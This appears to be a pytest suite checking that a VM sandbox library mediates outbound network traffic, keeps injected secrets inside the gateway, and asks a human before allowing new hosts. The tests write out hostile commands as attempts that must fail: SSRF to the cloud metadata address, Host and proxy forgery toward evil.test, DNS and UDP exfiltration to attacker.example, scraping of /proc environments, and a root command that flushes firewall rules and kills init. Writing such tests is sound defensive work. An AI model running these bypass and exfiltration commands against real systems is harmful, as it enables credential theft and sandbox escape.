"""Egress from a real guest with real clients, judged from the servers and the audit log."""

import json
import socket
from pathlib import Path

import pytest
from tests.conftest import GUEST
from tests.servers import http_server, tls_context
from tests.support.waiting import PATIENCE_S

from taskvm import HttpHook, HttpRequest, Oversight, Policy, Question, Sandbox, Secret, UsageError

pytestmark = pytest.mark.vm

CANARY = "canary-value-93b1c07e"


def audit_of(vm: Sandbox) -> list[dict[str, object]]:
    return [json.loads(line) for line in vm.audit_path.read_text().splitlines()]


def _lower(headers: dict[str, str]) -> dict[str, str]:
    # curl speaks HTTP/2 to the gateway, whose names are in lower case.
    return {name.lower(): value for name, value in headers.items()}


def reaching(port: int, ca_file: Path | None = None) -> dict[str, object]:
    """Options that let api.test, and nothing else, reach a server of the test's."""
    return {
        **GUEST,
        "allow": ["api.test"],
        "resolve": {"api.test": "127.0.0.1", "evil.test": "127.0.0.1"},
        "allow_addresses": [f"127.0.0.1:{port}"],
        "extra_ca_files": [ca_file] if ca_file else [],
    }


async def test_nothing_is_reachable_by_default(vm: Sandbox) -> None:
    """Without rules every name is refused, and the audit log has the line."""
    result = await vm.exec("curl -sS -m 90 http://example.com; getent hosts example.com")

    assert "Could not resolve" in result.stderr
    denied = [line for line in audit_of(vm) if line["decision"] == "deny"]
    assert {line["host"] for line in denied} == {"example.com"}


async def test_a_secret_reaches_its_host_and_not_the_guest(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """curl sends a placeholder; the server gets the value; the guest holds it nowhere."""
    monkeypatch.setenv("API_TOKEN", CANARY)
    ca = tmp_path / "ca.pem"
    with http_server(tls_context("api.test", ca)) as seen:
        async with Sandbox.create(
            **reaching(seen.port, ca), secrets=[Secret.from_env("API_TOKEN", hosts=["api.test"])]
        ) as vm:
            called = await vm.exec(
                f'curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test:{seen.port}/me'
            )
            python = await vm.exec(
                [
                    "python3",
                    "-c",
                    "import os, urllib.request as u; print(u.urlopen(u.Request("
                    f"'https://api.test:{seen.port}/py', "
                    "headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})).status)",
                ]
            )
            searched = await vm.exec(
                f"env; cat /proc/*/environ; cat /proc/cmdline; grep -rl {CANARY[:16]}'[-]v' /etc /root /tmp /run "
                "/var /home 2>/dev/null; dmesg",
                user="root",
            )
            audit = vm.audit_path.read_text()

    assert called.stdout == '{"user": "me"}\n', called.stderr
    assert python.stdout == "200\n", python.stderr
    sent = [_lower(headers)["authorization"] for _, _, headers, _ in seen.requests]
    assert sent == [f"Bearer {CANARY}"] * 2
    assert CANARY not in searched.stdout + searched.stderr + called.stdout + audit
    assert '"API_TOKEN"' in audit


async def test_a_secret_for_another_host_is_never_forwarded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A placeholder towards an allowed host that is not the secret's is refused before anything is sent."""
    monkeypatch.setenv("API_TOKEN", CANARY)
    ca = tmp_path / "ca.pem"
    with http_server(tls_context("api.test", ca)) as seen:
        options = reaching(seen.port, ca)
        async with Sandbox.create(
            **{**options, "allow": ["api.test", "other.example"]},
            secrets=[Secret.from_env("API_TOKEN", hosts=["other.example"])],
        ) as vm:
            tried = [
                await vm.exec(f"curl -sS -m 90 {arguments} https://api.test:{seen.port}/$P")
                for arguments in (
                    '-H "Authorization: Bearer $API_TOKEN"',
                    '-H "X-Anything: $API_TOKEN"',
                    "-u user:$API_TOKEN",
                    '-A "$API_TOKEN"',
                )
            ]
            in_path = await vm.exec(f"curl -sS -m 90 https://api.test:{seen.port}/$API_TOKEN")
            refusals = [line for line in audit_of(vm) if line["decision"] == "deny"]

    assert seen.requests == []
    assert len(refusals) >= 5
    assert all("egress_denied" in result.stdout for result in [*tried, in_path])


@pytest.mark.parametrize(
    "attempt",
    [
        "curl -sS -m 10 http://127.0.0.1:{port}/",
        "curl -sS -m 10 http://10.0.2.2:{port}/",
        "curl -sS -m 10 http://169.254.169.254/latest/meta-data/",
        "curl -sS -m 10 http://[::1]:{port}/",
        "curl -sS -m 10 -H 'Host: api.test:{port}' http://192.0.2.7:{port}/",
        "curl -sS -m 10 --resolve evil.test:{port}:192.0.2.7 http://evil.test:{port}/",
        "curl -sS -m 10 --connect-to evil.test:{port}:api.test:{port} http://evil.test:{port}/",
        "curl -sS -m 10 -x http://api.test:{port} http://evil.test/",
        "curl -sS -m 10 -H 'Host: evil.test' http://api.test:{port}/",
        'python3 -c \'import socket; s = socket.create_connection(("api.test", {port})); '
        's.sendall(b"SSH-2.0-x\\r\\n"); print(s.recv(100))\'',
    ],
)
async def test_no_way_around_the_names(attempt: str) -> None:
    """Addresses, forged names, proxies and other protocols reach nothing; only api.test by its own name would."""
    with http_server() as seen:
        async with Sandbox.create(**reaching(seen.port)) as vm:
            await vm.exec(attempt.format(port=seen.port), timeout_s=PATIENCE_S)
            control = await vm.exec(f"curl -sS -m 90 http://api.test:{seen.port}/control")

    assert [path for _, path, _, _ in seen.requests] == ["/control"], control.stderr


async def test_a_denied_name_causes_no_lookup_and_no_packet(vm: Sandbox) -> None:
    """UDP goes nowhere, a denied name is answered here, and a canary that listens hears nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as canary:
        canary.bind(("127.0.0.1", 0))
        canary.setblocking(False)
        port = canary.getsockname()[1]
        await vm.exec(
            "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f'for a in ("10.0.2.2", "127.0.0.1", "8.8.8.8"):\n'
            f'  try: s.sendto(b"leak", (a, {port}))\n  except OSError: pass\'; '
            "getent hosts secret-data.attacker.example"
        )
        with pytest.raises(BlockingIOError):
            canary.recv(100)

    names = [line.get("host") for line in audit_of(vm) if line["kind"] == "dns"]
    assert "secret-data.attacker.example" in names


async def test_the_roots_of_the_guest_cannot_turn_mediation_off(tmp_path: Path) -> None:
    """Flushing the redirection rules, as root, leaves a guest without any network."""
    with http_server() as seen:
        async with Sandbox.create(**reaching(seen.port)) as vm:
            await vm.exec(
                "nft flush ruleset; ip link set eth0 down; ip route flush all; "
                "for m in nft_redir nft_chain_nat; do rmmod -f $m; done; kill -9 1; "
                "echo 1 > /proc/sys/net/ipv4/ip_forward",
                user="root",
            )
            await vm.exec(
                f"curl -sS -m 5 http://127.0.0.1:{seen.port}/ http://10.0.2.2:{seen.port}/"
            )

    assert seen.requests == []


async def test_many_connections_at_once_are_answered(tmp_path: Path) -> None:
    """Sixty parallel requests of one guest all arrive."""
    with http_server() as seen:
        async with Sandbox.create(**reaching(seen.port)) as vm:
            result = await vm.exec(
                f"seq 60 | xargs -P 20 -I@ curl -sS -m 240 -o /dev/null -w '%{{http_code}}\\n' "
                f"http://api.test:{seen.port}/@",
                timeout_s=250,
            )

    assert result.stdout.split() == ["200"] * 60
    assert {path for _, path, _, _ in seen.requests} == {f"/{number}" for number in range(1, 61)}


async def test_a_secret_must_fit_the_policy(monkeypatch: pytest.MonkeyPatch) -> None:
    """A secret for a host that is not allowed is refused before anything starts."""
    monkeypatch.setenv("API_TOKEN", CANARY)
    with pytest.raises(UsageError, match="not within the allowed hosts") as caught:
        await Sandbox.create(**GUEST, secrets=[Secret.from_env("API_TOKEN", hosts=["api.test"])])

    assert CANARY not in str(caught.value)


async def test_policy_and_secrets_change_while_a_sandbox_runs(tmp_path: Path) -> None:
    """Widened, given a secret, the secret rotated, narrowed in the middle of a download, revoked."""
    ca = tmp_path / "ca.pem"
    with http_server(tls_context("api.test", ca)) as seen:
        async with Sandbox.create(**{**reaching(seen.port, ca), "allow": []}) as vm:
            get = f'curl -sS -m 90 -H "Authorization: $K" https://api.test:{seen.port}/'
            before = await vm.exec(get)
            with pytest.raises(UsageError, match="it is no Policy"):
                vm.change_policy("api.test")  # type: ignore[arg-type]  # the mistake
            vm.change_policy(vm.policy.allowing(f"api.test:{seen.port}"))
            placeholder = vm.put_secret(Secret("K", CANARY, hosts=[f"api.test:{seen.port}"]))
            first = await vm.exec(get)
            vm.put_secret(Secret("K", CANARY + "-2", hosts=[f"api.test:{seen.port}"]))
            second = await vm.exec(get)
            shown = await vm.exec("echo $K")
            vm.revoke_secret("K")
            revoked = await vm.exec(get.replace("$K", placeholder))
            vm.change_policy(Policy())
            after = await vm.exec(get)

    assert "Could not resolve" in before.stderr
    assert "Could not resolve" in after.stderr
    assert "revoked" in revoked.stdout
    assert shown.stdout == placeholder + "\n"
    assert first.stdout == second.stdout == '{"user": "me"}\n'
    sent = [_lower(headers)["authorization"] for _, _, headers, _ in seen.requests]
    assert sent == [CANARY, CANARY + "-2"]


async def test_a_person_is_asked_and_a_hook_sees_what_leaves(tmp_path: Path) -> None:
    """A real client waits for the answer; a plain function is asked as well as a coroutine."""
    ca = tmp_path / "ca.pem"
    asked: list[Question] = []
    seen_by_hook: list[str] = []

    def approve(question: Question) -> str:
        asked.append(question)
        return "sandbox" if question.host == "api.test" else "deny"

    def on_request(request: HttpRequest) -> None:
        seen_by_hook.append(request.target)

    oversight = Oversight(approve, hooks=(HttpHook(on_request),))  # type: ignore[arg-type]  # a str of the right ones
    with http_server(tls_context("api.test", ca)) as seen:
        options = {**reaching(seen.port, ca), "allow": [], "oversight": oversight}
        async with Sandbox.create(**options) as vm:
            allowed = await vm.exec(f"curl -sS -m 90 https://api.test:{seen.port}/{{a,b}}")
            denied = await vm.exec(f"curl -sS -m 90 https://evil.test:{seen.port}/")

    assert allowed.stdout.count('{"user": "me"}') == 2, allowed.stderr
    assert "a person refused this host" in denied.stdout
    assert [(question.host, question.path) for question in asked] == [
        ("api.test", "/a"),
        ("evil.test", "/"),
    ]
    assert seen_by_hook == ["/a", "/b"]
